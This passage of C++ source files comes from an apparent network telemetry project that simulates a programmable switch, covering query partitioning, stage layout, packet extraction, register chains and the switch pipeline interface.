      if (foldable_threshold(node, i)) return i + 1;
      return i;
    }
    if (!op_switch_compilable(op, node.schemas[i])) return i;
    if (op.kind == OpKind::kReduce) after_reduce = true;
  }
  return node.ops.size();
}

std::vector<std::size_t> partition_points(const StreamNode& node) {
  const std::size_t max = max_switch_prefix(node);
  std::vector<std::size_t> points;
  points.reserve(max + 1);
  for (std::size_t k = 0; k <= max; ++k) points.push_back(k);
  return points;
}

int stateful_key_bits(const StreamNode& node, std::size_t i) {
  const Schema& in = node.schemas[i];
  const Operator& op = node.ops[i];
  if (op.kind == OpKind::kDistinct) return in.total_bits();
  assert(op.kind == OpKind::kReduce);
  int bits = 0;
  for (const auto& k : op.keys) {
    if (const auto idx = in.index_of(k)) bits += in.at(*idx).bits;
  }
  return bits;
}

namespace {

void collect_op_columns(const Operator& op, std::vector<std::string>& out) {
  switch (op.kind) {
    case OpKind::kFilter:
      if (op.predicate) op.predicate->collect_columns(out);
      break;
    case OpKind::kFilterIn:
      for (const auto& e : op.match_exprs) {
        if (e) e->collect_columns(out);
      }
      break;
    case OpKind::kMap:
      for (const auto& p : op.projections) {
        if (p.expr) p.expr->collect_columns(out);
      }
      break;
    case OpKind::kDistinct:
      break;  // references the whole tuple; handled by caller
    case OpKind::kReduce:
      out.insert(out.end(), op.keys.begin(), op.keys.end());
      out.push_back(op.value_col);
      break;
  }
}

// Metadata budget: the widest set of *live* columns at any point of the
// switch-resident prefix, plus qid and report bits. A column is live at
// point i if a later switch-resident operator references it or it survives
// into the emitted schema.
int metadata_bits(const StreamNode& node, std::size_t partition) {
  if (partition == 0) return 0;
  // live[i] = names live entering ops[i].
  std::set<std::string> live;
  for (const auto& c : node.schemas[partition].columns()) live.insert(c.name);
  int max_bits = 0;
  auto width_at = [&](std::size_t i, const std::set<std::string>& names) {
    int bits = 0;
    for (const auto& c : node.schemas[i].columns()) {
      if (names.contains(c.name)) bits += c.bits;
    }
    return bits;
  };
  max_bits = width_at(partition, live);
  for (std::size_t i = partition; i-- > 0;) {
    const Operator& op = node.ops[i];
    if (op.kind == OpKind::kMap) {
      // map replaces the schema: live-before is exactly what it reads.
      live.clear();
    } else if (op.kind == OpKind::kDistinct) {
      // distinct keys on the whole tuple.
      for (const auto& c : node.schemas[i].columns()) live.insert(c.name);
    }
    std::vector<std::string> refs;
    collect_op_columns(op, refs);
    live.insert(refs.begin(), refs.end());
    max_bits = std::max(max_bits, width_at(i, live));
  }
  return max_bits + kQidBits + kReportBits;
}

}  // namespace

ProgramResources build_resources(const StreamNode& node, std::size_t partition,
                                 const std::map<std::size_t, RegisterSizing>& sizing,
                                 query::QueryId qid, int source_index, int level) {
  assert(partition <= node.ops.size());
  ProgramResources res;
  res.qid = qid;
  res.source_index = source_index;
  res.level = level;
  res.partition = partition;

  const std::string prefix = "q" + std::to_string(qid) + ".s" + std::to_string(source_index) +
                             ".L" + std::to_string(level) + "/t";
  for (std::size_t i = 0; i < partition; ++i) {
    const Operator& op = node.ops[i];
    const std::string base = prefix + std::to_string(i) + ":";
    switch (op.kind) {
      case OpKind::kFilter: {
        if (foldable_threshold(node, i)) break;  // folded into the reduce table
        res.tables.push_back({base + "filter", op.kind, i, false, 0, 1});
        break;
      }
      case OpKind::kFilterIn:
        res.tables.push_back({base + "filter_in", op.kind, i, false, 0, 1});
        break;
      case OpKind::kMap:
        res.tables.push_back(
            {base + "map", op.kind, i, false, 0, static_cast<int>(op.projections.size())});
        break;
      case OpKind::kDistinct:
      case OpKind::kReduce: {
        const auto it = sizing.find(i);
        const RegisterSizing rs = it != sizing.end() ? it->second : RegisterSizing{};
        const int key_bits = stateful_key_bits(node, i);
        const int value_bits = op.kind == OpKind::kDistinct ? kDistinctValueBits : kAggregateBits;
        const std::uint64_t bits_per_reg =
            static_cast<std::uint64_t>(rs.entries) * static_cast<std::uint64_t>(key_bits + value_bits);
        const char* label = op.kind == OpKind::kDistinct ? "distinct" : "reduce";
        res.tables.push_back({base + label + "[idx]", op.kind, i, false, 0, 1});
        for (int d = 0; d < rs.depth; ++d) {
          res.tables.push_back({base + label + "[reg" + std::to_string(d) + "]", op.kind, i, true,
                                bits_per_reg, 1});
        }
        break;
      }
    }
  }
  res.metadata_bits = metadata_bits(node, partition);
  return res;
}

}  // namespace sonata::pisa
