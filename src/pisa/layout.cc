#include "pisa/layout.h"

namespace sonata::pisa {

Layout assign_stages(const SwitchConfig& cfg, const std::vector<ProgramResources>& programs) {
  Layout layout;
  layout.stages.assign(static_cast<std::size_t>(cfg.stages), StageUsage{});
  layout.table_stages.resize(programs.size());

  // C5: total metadata across all programs.
  int metadata = 0;
  for (const auto& p : programs) metadata += p.metadata_bits;
  layout.metadata_bits_used = metadata;
  if (static_cast<std::uint64_t>(metadata) > cfg.metadata_bits) {
    layout.error = "metadata budget exceeded: " + std::to_string(metadata) + " > " +
                   std::to_string(cfg.metadata_bits) + " bits (C5)";
    return layout;
  }

  for (std::size_t pi = 0; pi < programs.size(); ++pi) {
    const auto& prog = programs[pi];
    int prev_stage = -1;
    layout.table_stages[pi].reserve(prog.tables.size());
    for (const auto& table : prog.tables) {
      if (table.stateful && table.register_bits > cfg.max_bits_per_register) {
        layout.error = "table " + table.name + " needs " + std::to_string(table.register_bits) +
                       " register bits; per-register cap is " +
                       std::to_string(cfg.max_bits_per_register);
        return layout;
      }
      int placed = -1;
      for (int s = prev_stage + 1; s < cfg.stages; ++s) {
        StageUsage& u = layout.stages[static_cast<std::size_t>(s)];
        const bool stateful_ok = !table.stateful || u.stateful < cfg.stateful_actions_per_stage;
        const bool actions_ok =
            u.stateless_actions + table.actions <= cfg.stateless_actions_per_stage;
        const bool bits_ok = u.register_bits + table.register_bits <= cfg.register_bits_per_stage;
        if (stateful_ok && actions_ok && bits_ok) {
          placed = s;
          break;
        }
      }
      if (placed < 0) {
        layout.error = "no stage fits table " + table.name + " (S=" +
                       std::to_string(cfg.stages) + ", C1-C4)";
        return layout;
      }
      StageUsage& u = layout.stages[static_cast<std::size_t>(placed)];
      if (table.stateful) ++u.stateful;
      u.stateless_actions += table.actions;
      u.register_bits += table.register_bits;
      layout.table_stages[pi].push_back(placed);
      prev_stage = placed;
    }
  }
  layout.feasible = true;
  return layout;
}

}  // namespace sonata::pisa
