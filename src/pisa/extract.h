// Batched PHV extraction for the 16-packet chunks the data path forms.
//
// The switch's parser conceptually extracts every header field of every
// packet into the PHV in one pass; this module is the simulator's analogue.
// extract_batch materializes one source tuple per packet, equivalent to
// calling query::materialize_tuple_into per packet but restructured so the
// numeric header columns of four packets are gathered and unpacked with
// AVX2 (runtime-dispatched via util::avx2_enabled(), scalar fallback
// otherwise). String columns (payload, DNS qname) and pointer-chased DNS
// numerics always extract scalar — they are rare and branchy.
//
// Bit/byte identity: both dispatch levels write exactly the words the
// per-field accessor walk would produce, so windows computed from either
// path are identical (asserted by the SIMD differential tests).
#pragma once

#include <span>
#include <vector>

#include "net/packet.h"
#include "query/field.h"
#include "query/tuple.h"

namespace sonata::pisa {

// Materialize source tuples for a chunk of packets: out[i] becomes the full
// registry-ordered tuple for packets[i]. `out` must hold at least
// packets.size() tuples; warm slots (correct arity) are overwritten in
// place with zero allocations. Falls back to the general registry walk
// when custom fields are registered.
void extract_batch(std::span<const net::Packet> packets, query::Tuple* out,
                   const query::FieldRegistry& registry = query::FieldRegistry::instance());

// Convenience: resize + extract into a tuple vector (grows only).
void extract_batch(std::span<const net::Packet> packets, std::vector<query::Tuple>& out,
                   const query::FieldRegistry& registry = query::FieldRegistry::instance());

}  // namespace sonata::pisa
