// P4-16 code generation: emit the data-plane program for the switch-resident
// part of a set of planned pipelines (the paper's data-plane driver compiles
// partitioned, refined queries to P4 for BMV2/Tofino — §5, Figure 6).
//
// The generated program follows the v1model pipeline:
//   * fixed parser for Ethernet/IPv4/TCP/UDP,
//   * per-(query, level) metadata fields for the live tuple columns,
//   * one section per pipeline: filter guards, dynamic-filter match tables
//    (entries installed by the runtime), map assignments, and
//    hash-indexed register chains (d registers, stored key + aggregate)
//    for distinct/reduce with threshold-crossing report logic,
//   * a final mirror-to-monitoring-port block gated on the report flag.
//
// The output is syntactically-plausible, structured P4 meant for human
// review and for driving a real driver; it is not round-tripped through a
// P4 compiler in this repository.
#pragma once

#include <string>
#include <vector>

#include "pisa/switch.h"

namespace sonata::pisa {

struct P4Pipeline {
  const query::StreamNode* node = nullptr;  // validated chain
  CompiledSwitchQuery::Options options;     // qid/source/level/partition/sizing
};

// Generate one self-contained P4-16 program for all pipelines.
[[nodiscard]] std::string generate_p4(const SwitchConfig& cfg,
                                      const std::vector<P4Pipeline>& pipelines);

}  // namespace sonata::pisa
