#include "pisa/config.h"

#include <cstdio>

namespace sonata::pisa {

std::string SwitchConfig::to_string() const {
  char buf[160];
  std::snprintf(buf, sizeof buf,
                "S=%d stages, A=%d stateful/stage, B=%llu Kb/stage, M=%llu Kb metadata",
                stages, stateful_actions_per_stage,
                static_cast<unsigned long long>(register_bits_per_stage / 1024),
                static_cast<unsigned long long>(metadata_bits / 1024));
  return buf;
}

}  // namespace sonata::pisa
