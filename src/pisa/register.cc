#include "pisa/register.h"

#include <algorithm>
#include <cassert>
#include <cstring>

#include "state/engine.h"  // state::apply_reduce

namespace sonata::pisa {

std::uint64_t apply_reduce(query::ReduceFn fn, std::uint64_t current,
                           std::uint64_t delta) noexcept {
  return state::apply_reduce(fn, current, delta);
}

RegisterChain::RegisterChain(const RegisterChainConfig& cfg)
    : cfg_(cfg),
      hashes_(static_cast<std::size_t>(std::max(cfg.depth, 1)),
              cfg.hash_seed != 0 ? cfg.hash_seed : 0x5eed5eed5eed5eedULL) {
  assert(cfg_.entries_per_register > 0);
  assert(cfg_.depth >= 1);
  if (cfg_.hashpipe) {
    hp_ = std::make_unique<state::HashPipeChain>(state::HashPipeConfig{
        .entries_per_stage = cfg_.entries_per_register,
        .stages = cfg_.depth,
        .hash_seed = cfg_.hash_seed,
    });
    return;
  }
  registers_.assign(static_cast<std::size_t>(cfg_.depth),
                    std::vector<Slot>(cfg_.entries_per_register));
  occ_.resize(static_cast<std::size_t>(cfg_.depth) * occ_words_per_register());
}

RegisterChain::UpdateResult RegisterChain::update(const query::Tuple& key, std::uint64_t delta,
                                                  query::ReduceFn fn) {
  if (hp_) {
    const auto r = hp_->update(key, delta, fn);
    return {.stored = true,
            .newly_inserted = r.newly_inserted,
            .overflow = false,  // hashpipe never overflows; see evicted_weight()
            .probes = r.probes,
            .value = r.value};
  }
  const std::uint64_t fp = key.hash();
  // Precompute the whole d-way lane-hash block in one (vectorized) pass and
  // prefetch the first two probe targets: the common case resolves at
  // depth 1, and a depth-2 continuation finds its slot line already in
  // flight. Indices are bit-identical to hashes_.index(d, fp, n).
  const std::size_t n = cfg_.entries_per_register;
  const std::size_t depth = registers_.size();
  std::uint64_t lanes[util::HashFamily::kMaxFamily];
  std::size_t idx0;
  if (depth > 1) {
    hashes_.hash_all(fp, lanes);
    idx0 = static_cast<std::size_t>(lanes[0] % n);
    __builtin_prefetch(&registers_[1][static_cast<std::size_t>(lanes[1] % n)]);
  } else {
    lanes[0] = hashes_(0, fp);
    idx0 = static_cast<std::size_t>(lanes[0] % n);
  }
  for (std::size_t d = 0; d < depth; ++d) {
    const std::size_t idx = d == 0 ? idx0 : static_cast<std::size_t>(lanes[d] % n);
    Slot& slot = registers_[d][idx];
    if (!slot.occupied) {
      slot.occupied = true;
      slot.key = key;
      slot.value = delta;  // initial value for every reduce fn (incl. min)
      occ_set(d, idx);
      ++stored_;
      return {.stored = true,
              .newly_inserted = true,
              .overflow = false,
              .probes = static_cast<int>(d) + 1,
              .value = slot.value};
    }
    if (slot.key == key) {
      slot.value = apply_reduce(fn, slot.value, delta);
      return {.stored = true,
              .newly_inserted = false,
              .overflow = false,
              .probes = static_cast<int>(d) + 1,
              .value = slot.value};
    }
    // Occupied by a different key: fall through to the next register.
  }
  ++overflows_;
  return {.stored = false,
          .newly_inserted = false,
          .overflow = true,
          .probes = cfg_.depth,
          .value = 0};
}

std::optional<std::uint64_t> RegisterChain::read(const query::Tuple& key) const {
  // HashPipe note: read/mark_reported need the reduce fn to merge a key
  // split across stages; sum is the fold every switch-compiled reduce and
  // distinct register uses at this boundary's call sites (value_bits=1
  // distinct slots hold 1s, so sum == presence).
  if (hp_) return hp_->read(key, query::ReduceFn::kSum);
  const std::uint64_t fp = key.hash();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    const Slot& slot = registers_[d][hashes_.index(d, fp, cfg_.entries_per_register)];
    if (slot.occupied && slot.key == key) return slot.value;
  }
  return std::nullopt;
}

bool RegisterChain::mark_reported(const query::Tuple& key) {
  if (hp_) return hp_->mark_reported(key);
  const std::uint64_t fp = key.hash();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    Slot& slot = registers_[d][hashes_.index(d, fp, cfg_.entries_per_register)];
    if (slot.occupied && slot.key == key) {
      const bool first = !slot.reported;
      slot.reported = true;
      return first;
    }
  }
  return false;
}

std::vector<std::pair<query::Tuple, std::uint64_t>> RegisterChain::entries() const {
  if (hp_) return hp_->entries();  // may repeat a key; the SP reduce merges
  std::vector<std::pair<query::Tuple, std::uint64_t>> out;
  out.reserve(stored_);
  // Walk the occupancy bitmap instead of every slot: O(stored) with a
  // 64-slot skip per empty word, in the same register-by-register
  // slot-ascending order the full scan produced.
  const std::size_t words = occ_words_per_register();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    const auto& reg = registers_[d];
    for (std::size_t w = 0; w < words; ++w) {
      std::uint64_t bits = occ_[d * words + w];
      while (bits != 0) {
        const std::size_t slot = w * 64 + static_cast<std::size_t>(__builtin_ctzll(bits));
        bits &= bits - 1;
        out.emplace_back(reg[slot].key, reg[slot].value);
      }
    }
  }
  return out;
}

void RegisterChain::reset() {
  if (hp_) {
    hp_->reset();
    return;
  }
  // Clear only occupied slots (bitmap-guided), then wipe the bitmap. The
  // per-window reset cost becomes proportional to the keys the window
  // actually stored, not to configured capacity.
  const std::size_t words = occ_words_per_register();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    auto& reg = registers_[d];
    for (std::size_t w = 0; w < words; ++w) {
      std::uint64_t bits = occ_[d * words + w];
      while (bits != 0) {
        const std::size_t slot = w * 64 + static_cast<std::size_t>(__builtin_ctzll(bits));
        bits &= bits - 1;
        reg[slot] = Slot{};
      }
    }
  }
  if (!occ_.empty()) std::memset(occ_.data(), 0, occ_.size() * sizeof(std::uint64_t));
  stored_ = 0;
  overflows_ = 0;
}

std::uint64_t RegisterChain::total_bits() const noexcept {
  return static_cast<std::uint64_t>(cfg_.depth) * bits_per_register();
}

std::uint64_t RegisterChain::bits_per_register() const noexcept {
  return static_cast<std::uint64_t>(cfg_.entries_per_register) *
         static_cast<std::uint64_t>(cfg_.key_bits + cfg_.value_bits);
}

}  // namespace sonata::pisa
