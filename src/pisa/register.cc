#include "pisa/register.h"

#include <algorithm>
#include <cassert>

#include "state/engine.h"  // state::apply_reduce

namespace sonata::pisa {

std::uint64_t apply_reduce(query::ReduceFn fn, std::uint64_t current,
                           std::uint64_t delta) noexcept {
  return state::apply_reduce(fn, current, delta);
}

RegisterChain::RegisterChain(const RegisterChainConfig& cfg)
    : cfg_(cfg),
      hashes_(static_cast<std::size_t>(std::max(cfg.depth, 1)),
              cfg.hash_seed != 0 ? cfg.hash_seed : 0x5eed5eed5eed5eedULL) {
  assert(cfg_.entries_per_register > 0);
  assert(cfg_.depth >= 1);
  if (cfg_.hashpipe) {
    hp_ = std::make_unique<state::HashPipeChain>(state::HashPipeConfig{
        .entries_per_stage = cfg_.entries_per_register,
        .stages = cfg_.depth,
        .hash_seed = cfg_.hash_seed,
    });
    return;
  }
  registers_.assign(static_cast<std::size_t>(cfg_.depth),
                    std::vector<Slot>(cfg_.entries_per_register));
}

RegisterChain::UpdateResult RegisterChain::update(const query::Tuple& key, std::uint64_t delta,
                                                  query::ReduceFn fn) {
  if (hp_) {
    const auto r = hp_->update(key, delta, fn);
    return {.stored = true,
            .newly_inserted = r.newly_inserted,
            .overflow = false,  // hashpipe never overflows; see evicted_weight()
            .probes = r.probes,
            .value = r.value};
  }
  const std::uint64_t fp = key.hash();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    Slot& slot = registers_[d][hashes_.index(d, fp, cfg_.entries_per_register)];
    if (!slot.occupied) {
      slot.occupied = true;
      slot.key = key;
      slot.value = delta;  // initial value for every reduce fn (incl. min)
      ++stored_;
      return {.stored = true,
              .newly_inserted = true,
              .overflow = false,
              .probes = static_cast<int>(d) + 1,
              .value = slot.value};
    }
    if (slot.key == key) {
      slot.value = apply_reduce(fn, slot.value, delta);
      return {.stored = true,
              .newly_inserted = false,
              .overflow = false,
              .probes = static_cast<int>(d) + 1,
              .value = slot.value};
    }
    // Occupied by a different key: fall through to the next register.
  }
  ++overflows_;
  return {.stored = false,
          .newly_inserted = false,
          .overflow = true,
          .probes = cfg_.depth,
          .value = 0};
}

std::optional<std::uint64_t> RegisterChain::read(const query::Tuple& key) const {
  // HashPipe note: read/mark_reported need the reduce fn to merge a key
  // split across stages; sum is the fold every switch-compiled reduce and
  // distinct register uses at this boundary's call sites (value_bits=1
  // distinct slots hold 1s, so sum == presence).
  if (hp_) return hp_->read(key, query::ReduceFn::kSum);
  const std::uint64_t fp = key.hash();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    const Slot& slot = registers_[d][hashes_.index(d, fp, cfg_.entries_per_register)];
    if (slot.occupied && slot.key == key) return slot.value;
  }
  return std::nullopt;
}

bool RegisterChain::mark_reported(const query::Tuple& key) {
  if (hp_) return hp_->mark_reported(key);
  const std::uint64_t fp = key.hash();
  for (std::size_t d = 0; d < registers_.size(); ++d) {
    Slot& slot = registers_[d][hashes_.index(d, fp, cfg_.entries_per_register)];
    if (slot.occupied && slot.key == key) {
      const bool first = !slot.reported;
      slot.reported = true;
      return first;
    }
  }
  return false;
}

std::vector<std::pair<query::Tuple, std::uint64_t>> RegisterChain::entries() const {
  if (hp_) return hp_->entries();  // may repeat a key; the SP reduce merges
  std::vector<std::pair<query::Tuple, std::uint64_t>> out;
  out.reserve(stored_);
  for (const auto& reg : registers_) {
    for (const auto& slot : reg) {
      if (slot.occupied) out.emplace_back(slot.key, slot.value);
    }
  }
  return out;
}

void RegisterChain::reset() {
  if (hp_) {
    hp_->reset();
    return;
  }
  for (auto& reg : registers_) {
    for (auto& slot : reg) slot = Slot{};
  }
  stored_ = 0;
  overflows_ = 0;
}

std::uint64_t RegisterChain::total_bits() const noexcept {
  return static_cast<std::uint64_t>(cfg_.depth) * bits_per_register();
}

std::uint64_t RegisterChain::bits_per_register() const noexcept {
  return static_cast<std::uint64_t>(cfg_.entries_per_register) *
         static_cast<std::uint64_t>(cfg_.key_bits + cfg_.value_bits);
}

}  // namespace sonata::pisa
