// Executable PISA switch simulator.
//
// A Switch hosts one CompiledSwitchQuery per (query, source, refinement
// level). Each packet is parsed once into a source tuple (the PHV), then
// every installed pipeline processes it; pipelines that mark the report
// flag cause a mirrored packet — an EmitRecord — on the monitoring port,
// which the emitter turns into stream-processor input (paper Figure 6).
//
// The driver-facing surface (install / update_filter_entries /
// poll_and_reset) mirrors what Sonata's runtime does to BMV2/Tofino over
// Thrift, including the modelled per-update latency used by the
// dynamic-refinement overhead micro-benchmark (paper §6.2).
#pragma once

#include <cstddef>
#include <cstdint>
#include <map>
#include <memory>
#include <optional>
#include <span>
#include <string>
#include <unordered_set>
#include <utility>
#include <vector>

#include "obs/metrics.h"
#include "pisa/compile.h"
#include "pisa/config.h"
#include "pisa/layout.h"
#include "pisa/register.h"
#include "query/field.h"
#include "query/query.h"

namespace sonata::pisa {

// What the switch mirrors to the monitoring port for one packet.
struct EmitRecord {
  enum class Kind : std::uint8_t {
    kStream,     // tuple passed a stateless switch prefix; SP continues at op_index
    kKeyReport,  // first report for a register key (stateful tail); SP polls later
    kOverflow,   // key collided in all d registers; SP takes over at op_index
  };
  Kind kind = Kind::kStream;
  query::QueryId qid = 0;
  int source_index = 0;
  int level = 0;
  std::size_t op_index = 0;  // where the tuple (re-)enters the operator chain
  query::Tuple tuple;
  // Ingest timestamp (obs::now_ns) of the packet/batch that produced this
  // record; 0 when metrics are off. Feeds the per-(query, level) report
  // latency histograms; never consulted by the data path itself, so it has
  // no effect on window results. Kept last: the switch data path
  // aggregate-initializes EmitRecord positionally without this field.
  std::uint64_t ingest_ns = 0;
};

// Caller-owned arena for mirrored records — the batched data path's
// replacement for returning optional<EmitRecord> per packet. Records are
// appended in packet-arrival order; clear() keeps the capacity, so a
// driver that reuses one sink per shard allocates only until the high-water
// mark of a window. The packets_with_records counter feeds the drivers'
// tuple accounting (one mirrored packet per source packet with at least one
// emission, paper §3.1.3).
class EmitSink {
 public:
  template <typename... Args>
  EmitRecord& append(Args&&... args) {
    return records_.emplace_back(std::forward<Args>(args)...);
  }

  // Drop everything but keep the allocation (arena reuse).
  void clear() noexcept {
    records_.clear();
    packets_with_records_ = 0;
  }

  [[nodiscard]] std::span<EmitRecord> records() noexcept { return records_; }
  [[nodiscard]] std::span<const EmitRecord> records() const noexcept {
    return {records_.data(), records_.size()};
  }
  [[nodiscard]] std::size_t size() const noexcept { return records_.size(); }
  [[nodiscard]] bool empty() const noexcept { return records_.empty(); }

  [[nodiscard]] std::uint64_t packets_with_records() const noexcept {
    return packets_with_records_;
  }
  void note_packet_with_records() noexcept { ++packets_with_records_; }

 private:
  std::vector<EmitRecord> records_;
  std::uint64_t packets_with_records_ = 0;
};

// Executable form of one partitioned (and possibly refined) sub-query.
class CompiledSwitchQuery {
 public:
  struct Options {
    query::QueryId qid = 0;
    int source_index = 0;
    int level = 32;
    std::size_t partition = 0;
    std::map<std::size_t, RegisterSizing> sizing;  // stateful op index -> n, d
    std::uint64_t hash_seed = 0;  // register hash family seed (0 = default)
  };

  // `node` must stay alive and validated for the lifetime of this object.
  CompiledSwitchQuery(const query::StreamNode& node, Options opts);

  // Process one source tuple; a mirrored record is appended to `sink` if
  // the report flag is set at the end of the pipeline. Returns whether a
  // record was emitted.
  bool process_into(const query::Tuple& source, EmitSink& sink);

  // Convenience wrapper around process_into for single-packet callers.
  [[nodiscard]] std::optional<EmitRecord> process(const query::Tuple& source);

  // True when the pipeline ends in a register (reduce) the stream
  // processor must poll at the end of each window.
  [[nodiscard]] bool has_stateful_tail() const noexcept { return tail_reduce_ != nullptr; }

  // End-of-window register poll (control channel). Returns ALL stored
  // aggregates, shaped like the tail reduce's *input* tuples (value column
  // carrying the aggregate, unused columns zeroed), so the stream processor
  // ingests them at the reduce itself and merges them with any
  // overflow-corrected partial counts before applying the trailing
  // threshold (paper §3.1.3: the emitter reads the aggregated value for
  // each key in its local store from the data-plane registers, and the SP
  // adjusts results for collisions). The folded threshold still governs
  // which keys generate *report packets* (the N the evaluation counts);
  // polling is control-plane.
  [[nodiscard]] std::vector<query::Tuple> poll_aggregates() const;

  // Raw end-of-window poll for the parallel window merge: the stateful
  // tail's keys and aggregates in the registers' deterministic entries()
  // order, unshaped, split into parallel columns so the driver can batch-
  // hash the contiguous keys (query::hash_tuples). Shards return these from
  // their local close phase; the driver pre-folds repeated keys across
  // shards with tail_reduce_fn() and shapes each merged key once via
  // shape_polled(). Empty when !has_stateful_tail().
  struct PolledPartial {
    std::vector<query::Tuple> keys;
    std::vector<std::uint64_t> values;  // parallel to keys
  };
  [[nodiscard]] PolledPartial poll_partial() const;

  // Shape one (key, aggregate) pair exactly like poll_aggregates() shapes
  // each register entry. Requires has_stateful_tail().
  [[nodiscard]] query::Tuple shape_polled(const query::Tuple& key, std::uint64_t value) const;

  // Reduce fn of the stateful tail (kSum when there is none).
  [[nodiscard]] query::ReduceFn tail_reduce_fn() const noexcept {
    return tail_reduce_ != nullptr ? tail_reduce_->fn : query::ReduceFn::kSum;
  }

  // Operator index where polled aggregates enter the stream processor:
  // the tail reduce itself.
  [[nodiscard]] std::size_t poll_entry_op() const noexcept { return poll_entry_; }

  // Clear all register state (driver does this between windows).
  void reset_registers();

  // Reset every piece of per-window runtime state — registers and dynamic
  // filter entries — so a pipeline carried over from a previous plan
  // (partial recompile on a control-plane swap) behaves exactly like a
  // freshly compiled one. Cumulative counters are kept; the switch's obs
  // baselines re-snapshot them at install.
  void reset_runtime_state();

  // The augmented chain this pipeline was compiled from (identity key for
  // pipeline reuse across plan swaps).
  [[nodiscard]] const query::StreamNode& node() const noexcept { return node_; }

  // Replace the entry set of a dynamic-refinement filter table. Returns
  // false if this pipeline has no such table.
  bool set_filter_entries(const std::string& table_name,
                          std::vector<query::Tuple> entries);

  [[nodiscard]] const Options& options() const noexcept { return opts_; }
  [[nodiscard]] std::uint64_t packets_seen() const noexcept { return packets_seen_; }
  [[nodiscard]] std::uint64_t records_emitted() const noexcept { return emitted_; }
  [[nodiscard]] std::uint64_t overflow_records() const noexcept { return overflows_; }
  [[nodiscard]] std::uint64_t key_report_records() const noexcept { return key_reports_; }
  [[nodiscard]] std::uint64_t stream_records() const noexcept {
    return emitted_ - overflows_ - key_reports_;
  }

  // Per-register-chain occupancy, read at window close (before the reset)
  // so the observability layer can publish register pressure per stage.
  struct StatefulOpStats {
    std::size_t op_index = 0;
    query::OpKind kind = query::OpKind::kDistinct;
    std::uint64_t keys_stored = 0;
    std::uint64_t slots = 0;  // total capacity: entries_per_register * depth
    std::uint64_t overflows = 0;
    // HashPipe mode: weight/keys evicted past the last stage this window
    // (the error bound standing in for overflow-to-SP correction).
    bool sketch = false;
    std::uint64_t evicted_weight = 0;
    std::uint64_t evicted_keys = 0;
  };
  [[nodiscard]] std::vector<StatefulOpStats> stateful_op_stats() const;

  // Collision-chain depth tally: probe_tally()[p] counts stateful-op
  // updates that examined p registers (index 0 unused; the last index
  // aggregates >= kProbeTallyMax probes). Plain single-writer counters —
  // a Switch is driven by one thread — so the hot path stays atomic-free.
  static constexpr int kProbeTallyMax = 8;
  [[nodiscard]] std::span<const std::uint64_t> probe_tally() const noexcept {
    return {probe_tally_, kProbeTallyMax + 1};
  }

 private:
  struct CompiledOp {
    query::OpKind kind = query::OpKind::kFilter;
    std::size_t op_index = 0;
    // filter
    query::Expr::Evaluator pred;
    // filter_in
    std::vector<query::Expr::Evaluator> match;
    std::string table_name;
    std::unordered_set<query::Tuple, query::TupleHasher> entries;
    // map
    std::vector<query::Expr::Evaluator> projections;
    // distinct / reduce
    std::vector<std::size_t> key_idx;
    std::size_t value_idx = 0;
    query::ReduceFn fn = query::ReduceFn::kSum;
    std::unique_ptr<RegisterChain> chain;
    // folded threshold on the tail reduce
    std::optional<FoldedThreshold> folded;
  };

  const query::StreamNode& node_;
  Options opts_;
  std::vector<CompiledOp> ops_;
  CompiledOp* tail_reduce_ = nullptr;  // set when the last op is a reduce
  std::size_t poll_entry_ = 0;
  std::uint64_t packets_seen_ = 0;
  std::uint64_t emitted_ = 0;
  std::uint64_t overflows_ = 0;
  std::uint64_t key_reports_ = 0;
  std::uint64_t probe_tally_[kProbeTallyMax + 1] = {};
};

// Counters the evaluation reads per window.
struct SwitchStats {
  std::uint64_t packets_processed = 0;
  std::uint64_t records_emitted = 0;   // packet tuples sent to the SP
  std::uint64_t overflow_records = 0;  // subset of the above due to collisions
  std::uint64_t dropped_packets = 0;   // closed-loop mitigation drops
  std::uint64_t filter_entry_updates = 0;
  std::uint64_t register_resets = 0;
  double control_update_millis = 0.0;  // modelled driver latency
};

class Switch {
 public:
  explicit Switch(SwitchConfig cfg) : cfg_(std::move(cfg)) {}

  // Label this switch carries in its metric names (`sw="<label>"`).
  // Must be set before install(); the fleet uses the shard index, a
  // standalone runtime keeps the default "0".
  void set_obs_label(std::string label) { obs_label_ = std::move(label); }
  [[nodiscard]] const std::string& obs_label() const noexcept { return obs_label_; }

  // Install pipelines. Performs stage layout against the resource model and
  // refuses (returning the layout error) if the programs do not fit.
  [[nodiscard]] std::string install(std::vector<std::unique_ptr<CompiledSwitchQuery>> pipelines,
                                    const std::vector<ProgramResources>& resources);

  // Uninstall and hand back the compiled pipelines (a control-plane swap
  // recompiles only changed ones and reinstalls the rest). The switch is
  // left program-less until the next install().
  [[nodiscard]] std::vector<std::unique_ptr<CompiledSwitchQuery>> release_pipelines();

  // The batched hot path: process every pre-materialized source tuple
  // through every installed pipeline, appending mirrored records to the
  // caller-owned sink in arrival order. A Switch must be driven by at most
  // one thread at a time — the fleet pins each switch to a single worker.
  void process_batch(std::span<const query::Tuple> sources, EmitSink& sink);

  // Single-tuple variant of process_batch (same sink contract).
  void process_one(const query::Tuple& source, EmitSink& sink);

  // Process one packet through every installed pipeline; emitted records
  // are appended to `out`.
  void process(const net::Packet& packet, std::vector<EmitRecord>& out);

  // Process a pre-materialized source tuple (compatibility wrapper over
  // process_one for single-packet callers).
  void process_tuple(const query::Tuple& source, std::vector<EmitRecord>& out);

  [[nodiscard]] const std::vector<std::unique_ptr<CompiledSwitchQuery>>& pipelines() const noexcept {
    return pipelines_;
  }
  [[nodiscard]] const Layout& layout() const noexcept { return layout_; }
  [[nodiscard]] const SwitchConfig& config() const noexcept { return cfg_; }
  [[nodiscard]] const SwitchStats& stats() const noexcept { return stats_; }

  // -- driver surface -------------------------------------------------
  // Update a dynamic filter table (any pipeline that owns `table_name`).
  // Models per-entry update latency; returns number of pipelines updated.
  int update_filter_entries(const std::string& table_name, std::vector<query::Tuple> entries);

  // Reset all registers (end of window). Models reset latency.
  void reset_all_registers();

  // -- closed-loop mitigation (paper §8's long-term goal) -------------
  // Install a drop rule: packets whose source field equals `key` are
  // dropped before any telemetry pipeline sees them. `field` must be a
  // registered packet field. Models the same driver latency as a filter
  // entry update. Returns false for unknown fields.
  bool block(const std::string& field, const query::Value& key);
  void clear_blocks();
